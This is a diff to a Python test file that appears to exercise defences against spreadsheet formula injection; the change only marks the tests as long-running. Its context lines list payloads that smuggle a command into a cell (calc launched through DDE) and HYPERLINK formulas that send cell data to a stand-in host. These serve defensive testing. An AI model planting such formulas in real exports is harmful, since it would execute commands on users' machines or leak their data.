@@ -30,6 +30,8 @@ from tests.attacks.script_town import policies, project, rows, tabulated
 from tests.attacks.test_rows_as_carriers import labelled
 from tests.files import remake
 
+pytestmark = pytest.mark.long
+
 FORMULAS = [
     "=1+1|cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
     '=HYPERLINK("http://x.example/?"&B2,"click")', '-HYPERLINK("http://x.example/?"&A1,"click")', "+ =HYPERLINK(1)",
